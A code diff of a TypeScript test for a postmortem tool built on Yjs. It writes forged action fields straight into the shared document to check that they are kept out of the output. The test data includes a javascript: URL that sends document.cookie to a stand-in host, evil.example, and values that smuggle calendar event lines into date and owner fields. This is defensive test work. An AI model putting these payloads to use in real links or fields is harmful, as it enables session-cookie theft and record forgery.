@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import * as Y from 'yjs';
-import { actionsMap, addAction, metaMap, promoteFinding, updateAction } from '@debrief/model';
+import { actionsMap, addAction, metaMap, promoteFinding } from '@debrief/model';
 import { FACILITATOR_KEYS_HEADER, formatFacilitatorKeys, type ActionListItem } from '@debrief/protocol';
 import { api, connectPerson, createTestPostmortem, eventually, startTestServer, type TestServer } from '../testing/server-harness.ts';
 
@@ -28,11 +28,14 @@ it('keeps forged dates, ids, links and control characters written through Yjs ou
   const doc = fiona.findings.doc;
   const finding = promoteFinding(doc, { type: 'root', statement: 'Session tokens were not rotated' });
   const honest = addAction(doc, [finding], 'Rotate tokens on deploy');
-  updateAction(doc, honest, { owner: 'Identity team', due: '2099-03-01', trackerUrl: 'javascript:fetch("//evil.example?"+document.cookie)' });
+  // Written as a hand-written client would, straight into the action's map (the model's writers check formats).
+  const forge = (id: string, fields: Record<string, string>) =>
+    doc.transact(() => Object.entries(fields).forEach(([key, value]) => actionsMap(doc).get(id)!.set(key, value)));
+  forge(honest, { owner: 'Identity team', due: '2099-03-01', trackerUrl: 'javascript:fetch("//evil.example?"+document.cookie)' });
   const forgedDue = addAction(doc, [finding], 'Review token lifetimes');
-  updateAction(doc, forgedDue, { owner: 'SRE', due: `2099-01-01${FORGED_EVENT}`, trackerUrl: 'https://tracker.example/T-1' });
+  forge(forgedDue, { owner: 'SRE', due: `2099-01-01${FORGED_EVENT}`, trackerUrl: 'https://tracker.example/T-1' });
   const loneCr = addAction(doc, [finding], 'Add alerting\rBEGIN:VEVENT');
-  updateAction(doc, loneCr, { owner: 'SRE\u2028Ops', due: '2099-01-02\rBEGIN:VEVENT' });
+  forge(loneCr, { owner: 'SRE\u2028Ops', due: '2099-01-02\rBEGIN:VEVENT' });
   // An action stored under an id of any shape, as a hand-written client can do.
   doc.transact(() => {
     const entry = new Y.Map<unknown>();
